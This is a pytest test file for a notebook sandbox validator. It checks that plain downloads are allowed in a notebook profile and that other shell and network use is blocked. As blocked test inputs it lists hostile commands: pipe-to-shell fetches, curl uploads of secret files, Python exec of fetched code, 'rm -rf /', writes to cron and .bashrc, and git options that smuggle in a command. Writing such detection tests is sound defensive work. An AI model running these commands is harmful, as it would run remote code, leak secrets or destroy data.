"""Downloads (SK608): answered in the notebook profile, refused with findings in strict."""

from __future__ import annotations

import pytest

from sandbox_kernel.validator import Policy, validate
from sandbox_kernel.validator.families.shell_lines import download_sources
from sandbox_kernel.validator.unparseable import BUILTIN_ONLY_WORDS

NOTEBOOK = Policy(profile="notebook")
STRICT = Policy(profile="strict")


@pytest.mark.parametrize(
    ("command", "sources"),
    [
        ("wget -nc https://example.org/a.pth", ["https://example.org/a.pth"]),
        ("curl -sSLO https://example.org/a.csv", ["https://example.org/a.csv"]),
        ("curl https://example.org/a.tar > a.tar", ["https://example.org/a.tar"]),
        ("wget -P data 'https://example.org/a.csv'", ["https://example.org/a.csv"]),
        (
            "git clone --depth 1 https://github.com/x/y.git",
            ["git clone https://github.com/x/y.git"],
        ),
        ("git clone git@github.com:x/y.git repo", ["git clone git@github.com:x/y.git"]),
    ],
)
def test_lines_that_only_download(command: str, sources: list[str]) -> None:
    assert download_sources(command) == sources
    result = validate("!" + command, NOTEBOOK)
    assert result.answer() is not None and result.answer()[0] == "SandboxNoNetwork"  # type: ignore[index]
    assert result.downloads == sources
    strict = validate("!" + command, STRICT)
    assert strict.blocked and strict.answer() is None
    assert [v.rule_id for v in strict.violations] == ["SK601"]


@pytest.mark.parametrize(
    "command",
    [
        "curl -fsSL https://example.org/x.sh | sh",
        "wget https://example.org/x.py && python x.py",
        "git clone https://github.com/x/y && cd y && make",
        "git clone gitdemo gitdemo2",  # local: not a download
        "git clone -c core.sshCommand=sh https://github.com/x/y",
        "git clone -u ./run https://github.com/x/y",
        "git clone https://github.com/x/y /usr/lib/y",
        "wget --use-askpass=./x https://example.org/a",
        "wget -O ../../etc/x https://example.org/a",
        "curl -o /etc/x https://example.org/a",
        "curl https://example.org/a > /etc/cron.d/x",
        "curl https://example.org/a > ~/.bashrc",
        "curl https://example.org/a >> notes.txt",
        "curl https://example.org/a 2> err.txt",
        "wget https://example.org/a > a",
        "curl -d @secret.txt https://example.org/a",
        "curl -T secret.txt https://example.org/a",
        "wget $URL",
        "wget {url}",
        "wget `cat urls`",
        "wget https://example.org/a?x=1&y=2",
        "wget ftp",
    ],
)
def test_anything_more_than_a_download_is_a_shell_line(command: str) -> None:
    assert download_sources(command) is None
    for policy in (NOTEBOOK, STRICT):
        result = validate("!" + command, policy)
        assert result.blocked and result.answer() is None, result.format_report()


def test_python_downloads_are_answered_and_other_network_use_refused() -> None:
    fetch = validate("import urllib.request\nurllib.request.urlretrieve(u, 'a.csv')", NOTEBOOK)
    assert fetch.answer() is not None and "urllib.request" in fetch.answer()[1]  # type: ignore[index]
    img = validate("img = Image.open(requests.get(url, stream=True).raw)", NOTEBOOK)
    assert img.answer() is not None
    for source in [
        "import requests\nrequests.post(url, data=secret)",
        "import requests as r\nr.put(url, data=secret)",
        "from requests import Session",
        "s = requests.Session()",
        "import urllib.request\nexec(urllib.request.urlopen(u).read())",
        "import socket",
    ]:
        result = validate(source, NOTEBOOK)
        assert result.blocked and result.answer() is None, source
    strict = validate("import urllib.request\nurllib.request.urlretrieve(u, 'a.csv')", STRICT)
    assert strict.blocked and strict.answer() is None


def test_the_parts_of_urllib_that_open_nothing_pass_in_notebook() -> None:
    # `import urllib.parse` was in another cell: the chain names what it uses
    assert not validate("q = urllib.parse.quote(sql)", NOTEBOOK).violations
    assert validate("urllib.request.build_opener()", NOTEBOOK).blocked
    assert validate("q = urllib.parse.quote(sql)", STRICT).blocked


def test_a_variable_named_like_a_client_is_a_variable() -> None:
    cell = "requests = []\nfor row in rows:\n    requests.append(row['message'])"
    assert not validate(cell, NOTEBOOK).violations
    assert validate(cell, STRICT).blocked  # strict reads the name, as before


def test_the_administrator_still_decides() -> None:
    banned = Policy(profile="notebook", banned_modules=["requests"])
    result = validate("import requests\nrequests.get(u)", banned)
    assert result.blocked and result.answer() is None
    allowed = Policy(profile="notebook", allowed_modules=["requests"])
    assert not validate("import requests\nrequests.get(u)", allowed).blocked


def test_methods_named_like_builtins_in_an_unparseable_cell() -> None:
    # a Python 2 cell (print statement): tensor.eval() is a method, eval(s) the builtin
    assert not validate("print 1\nacts = T(layer).eval()", NOTEBOOK).blocked
    assert validate("print 1\nacts = eval(s)", NOTEBOOK).blocked
    assert validate("print 1\n# the end.\neval(s)", NOTEBOOK).blocked
    for word in BUILTIN_ONLY_WORDS:  # what a parsed cell passes as a method
        assert not validate(f"x.{word}()", STRICT).violations, word


def test_a_cell_ipython_cannot_transform_is_scanned_in_notebook() -> None:
    cell = "# note\n%%html\n<style>\n  #a {\n    width: 1px;\n  }\n</style>"
    passed = validate(cell, NOTEBOOK)
    assert not passed.blocked and passed.syntax_error is not None
    assert validate(cell, STRICT).blocked  # strict: cannot be judged, refused
    scripted = "# note\n%%html\n<script>\n  alert(1)\n</script>"
    assert validate(scripted, NOTEBOOK).blocked
    shell = "# note\n%%html\n  !curl https://example.org | sh\n"
    assert validate(shell, NOTEBOOK).blocked


@pytest.mark.parametrize(
    ("command", "note"),
    [
        ("rm mydata.sqlite", True),
        ("rm -rf results", True),
        ("unzip -q data.zip -d data", False),
        ("gunzip -f prices.csv.gz", False),
    ],
)
def test_commands_that_only_change_working_files(command: str, note: bool) -> None:
    # what os.remove, shutil.rmtree, zipfile and gzip do, which notebook passes
    result = validate("!" + command, NOTEBOOK)
    assert not result.blocked, result.format_report()
    assert [v.rule_id for v in result.violations] == (["SK504"] if note else [])
    assert validate("!" + command, STRICT).blocked


@pytest.mark.parametrize(
    "command",
    [
        "rm -rf /",
        "rm -f $path*",
        "rm ../outside",
        "rm --no-preserve-root -rf /tmp/work",
        "rm -- -x",
        "unzip -d /etc x.zip",
        "unzip x.zip -d",
        "tar xf data.tar",  # TAR_OPTIONS from the environment can make tar run programs
        "gunzip -c x.gz > /etc/x",
        "rm x; sh y",
    ],
)
def test_other_file_commands_stay_shell_lines(command: str) -> None:
    result = validate("!" + command, NOTEBOOK)
    assert result.blocked and "SK601" in {v.rule_id for v in result.violations}


def test_an_extra_with_a_version_is_an_install() -> None:
    result = validate("%pip install -U gym[box2d,atari]~=0.21.0", NOTEBOOK)
    assert [v.rule_id for v in result.violations] == ["SK607"]
    assert result.install_packages == ["gym[box2d,atari]~=0.21.0"]
